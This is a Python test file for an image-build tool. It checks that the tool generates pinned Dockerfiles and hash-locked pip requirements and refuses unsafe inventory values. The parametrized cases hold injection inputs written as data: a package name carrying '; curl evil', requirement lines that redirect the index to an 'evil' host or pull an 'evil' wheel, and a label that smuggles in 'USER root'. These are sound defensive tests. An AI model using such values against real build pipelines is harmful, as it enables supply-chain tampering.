"""A site's own image as it is declared: its Dockerfile, and that all it fetches is pinned."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import pytest
from tests.support.image_builds import BASE, JUPYTERLAB, NOTEBOOK, A, inventory_of

from clusterctl.errors import ClusterctlError
from clusterctl.registry.images import recipe


def test_the_dockerfile_holds_all_that_is_declared_and_the_same_each_time(tmp_path: Path) -> None:
    (one,) = recipe.declared_recipes(inventory_of(tmp_path, NOTEBOOK))
    context = recipe.context_of(one, BASE, "registry01:5000")
    text = context["Dockerfile"]
    assert f"FROM registry01:5000/library/paddle@{A}\n" in text
    assert "      git=1:2.39.5-0 \\\n      vim \\\n" in text
    assert 'CMD ["jupyter", "lab", "--ip=0.0.0.0", "--no-browser"]' in text
    assert text.index("USER root") < text.index("apt-get") < text.index("USER 1000:1000")
    assert context["requirements.txt"].splitlines() == [
        *NOTEBOOK["requirements"],
        f"jupyterlab==4.4.5 --hash=sha256:{'3' * 64} --hash=sha256:{'4' * 64}",
        f"exceptiongroup==1.3.0 ; python_full_version < '3.11' --hash=sha256:{'5' * 64}",
    ]
    assert "--require-hashes --only-binary :all:" in text
    assert 'io.clusterctl.requirements="pandas[xml]==2.3.1 jupyterlab==4.4.5 exceptiongroup==1.3.0"' in text
    assert context["pip.conf"] == "[global]\nindex-url = https://pypi.site/simple\n"
    assert f'org.opencontainers.image.base.digest="{A}"' in text
    assert len(recipe.recipe_of(context)) == 64
    assert recipe.context_of(one, BASE, "registry01:5000") == context
    other = BASE.model_copy(update={"digest": "sha256:" + "b" * 64})
    assert recipe.recipe_of(recipe.context_of(one, other, "registry01:5000")) != recipe.recipe_of(context)


def test_an_index_that_the_sites_authority_signed_is_trusted_by_it(tmp_path: Path) -> None:
    (tmp_path / "site.crt").write_text(f"{recipe.PEM}\nQUJD\n-----END CERTIFICATE-----\n", encoding="utf-8")
    (one,) = recipe.declared_recipes(inventory_of(tmp_path, {**NOTEBOOK, "pip_ca_file": "site.crt"}))
    context = recipe.context_of(one, BASE, "registry01:5000")
    assert f"cert = {recipe.PIP_CA}\n" in context["pip.conf"]
    assert f"COPY pip-ca.crt {recipe.PIP_CA}\n" in context["Dockerfile"]
    assert context["pip-ca.crt"].startswith(recipe.PEM)
    (tmp_path / "site.crt").write_text(f"{recipe.PEM}\n-----BEGIN PRIVATE KEY-----\n", encoding="utf-8")
    for name, because in (("site.crt", "must contain certificates"), ("absent.crt", "cannot be read")):
        with pytest.raises(ClusterctlError, match=because):
            recipe.declared_recipes(inventory_of(tmp_path, {**NOTEBOOK, "pip_ca_file": name}))


def test_what_is_not_declared_leaves_no_line(tmp_path: Path) -> None:
    bare = {key: NOTEBOOK[key] for key in ("name", "base", "target")}
    (one,) = recipe.declared_recipes(inventory_of(tmp_path, bare))
    context = recipe.context_of(one, BASE, "registry01:5000")
    assert set(context) == {"Dockerfile"}
    for word in ("apt-get", "pip", "CMD", "EXPOSE"):
        assert word not in context["Dockerfile"]


@pytest.mark.parametrize(
    "wrong",
    [
        {"packages": ["vim; curl evil"]}, {"packages": ["--allow-unauthenticated"]},
        {"requirements": ["-e ."]},
        {"requirements": ["x\n--index-url=http://evil"]}, {"target": "site/notebook"}, {"user": "root; x"},
        {"pip_index_url": "https://me:word@pypi.site/simple"}, {"jupyterlab": ">=4"}, {"uid": -1},
        {"labels": {"a": "x\nUSER root"}}, {"name": ""},
    ],
)  # fmt: skip
def test_a_word_that_would_be_more_than_a_word_is_refused(wrong: dict[str, Any], tmp_path: Path) -> None:
    with pytest.raises(ClusterctlError) as refused:
        recipe.declared_recipes(inventory_of(tmp_path, {**NOTEBOOK, **wrong}))
    assert refused.value.code == "images.build-declared"
    assert "word@" not in refused.value.what


HASH = f"--hash=sha256:{'1' * 64}"


@pytest.mark.parametrize(
    "unpinned",
    [
        {"requirements": ["pandas"]}, {"requirements": ["pandas==2.3.1"]},
        {"requirements": ["pandas>=2 " + HASH]}, {"requirements": ["pandas==2.3.* " + HASH]},
        {"requirements": ["pandas==2.3.1 --hash=md5:" + "1" * 32]},
        {"pip_index_url": "http://pypi.site/simple"}, {"jupyterlab": "4.4.6"},
        {"requirements_file": ""},
        {"nccl_tests": {"source": "http://mirror.site/nccl-tests.tar.gz", "sha256": "1" * 64}},
        {"nccl_tests": {"source": "https://mirror.site/nccl-tests.tar.gz"}},
    ],
)  # fmt: skip
def test_what_is_not_pinned_is_refused_before_anything_is_fetched(
    unpinned: dict[str, Any], tmp_path: Path
) -> None:
    with pytest.raises(ClusterctlError) as refused:
        recipe.declared_recipes(inventory_of(tmp_path, {**NOTEBOOK, **unpinned}))
    assert (refused.value.code, refused.value.exit_code) == ("images.build-unpinned", 2)


@pytest.mark.parametrize(
    ("line", "is_pinned"),
    [
        (f"pandas==2.3.1  ;  python_version  <  '3.11'   {HASH}", True),
        (f"pandas==2.3.1;sys_platform == 'linux' {HASH} {HASH}", True),
        ("foo==1 ;" + " " * 200_000 + ":", False),
        ("foo==1 ;" + " -" * 30_000 + ":", False),
        ("foo==1 ;a" + " --hash" * 9_000 + ":", False),
        ("foo==1 " + f"{HASH} " * 1_000 + ":", False),
        (f"foo==1 {HASH} " * 2_000, False),
    ],
    ids=["spaces", "hashes", "long space", "words", "words like hashes", "many hashes", "too long"],
)  # fmt: skip
def test_a_requirement_is_read_in_time_in_proportion_to_it(
    tmp_path: Path, line: str, is_pinned: bool
) -> None:
    bare = {key: NOTEBOOK[key] for key in ("name", "base", "target")}
    inventory = inventory_of(tmp_path, {**bare, "requirements": [line]})
    if is_pinned:
        (one,) = recipe.declared_recipes(inventory)
        assert one.requirements == (" ".join(line.split()),)
    else:
        began = time.process_time()
        with pytest.raises(ClusterctlError):
            recipe.declared_recipes(inventory)
        assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("--index-url https://evil\n" + JUPYTERLAB, "images.build-declared"),
        ("-r other.txt\n" + JUPYTERLAB, "images.build-declared"),
        (JUPYTERLAB + "evil @ https://evil/x.whl\n", "images.build-declared"),
        (JUPYTERLAB + "numpy==2.0.0\n", "images.build-unpinned"),
        (JUPYTERLAB.replace("4.4.5", "4.4.4"), "images.build-unpinned"),
    ],
)
def test_a_file_of_requirements_brings_packages_with_hashes_and_nothing_else(
    text: str, code: str, tmp_path: Path
) -> None:
    inventory = inventory_of(tmp_path, NOTEBOOK)
    (tmp_path / "notebook.lock").write_text(text, encoding="utf-8")
    with pytest.raises(ClusterctlError) as refused:
        recipe.declared_recipes(inventory)
    assert refused.value.code == code
    (tmp_path / "notebook.lock").unlink()
    os.mkfifo(tmp_path / "notebook.lock")
    with pytest.raises(ClusterctlError, match="not a regular file"):
        recipe.declared_recipes(inventory)


@pytest.mark.parametrize("name", ["notebook.lock", "site.crt"])
def test_a_file_that_others_could_have_written_brings_nothing_into_an_image(
    name: str, tmp_path: Path
) -> None:
    (tmp_path / "site.crt").write_text(f"{recipe.PEM}\nQUJD\n-----END CERTIFICATE-----\n", encoding="utf-8")
    inventory = inventory_of(tmp_path, {**NOTEBOOK, "pip_ca_file": "site.crt"})
    assert recipe.declared_recipes(inventory)
    (tmp_path / name).chmod(0o666)
    with pytest.raises(ClusterctlError, match="is not trusted: it is world-writable"):
        recipe.declared_recipes(inventory)
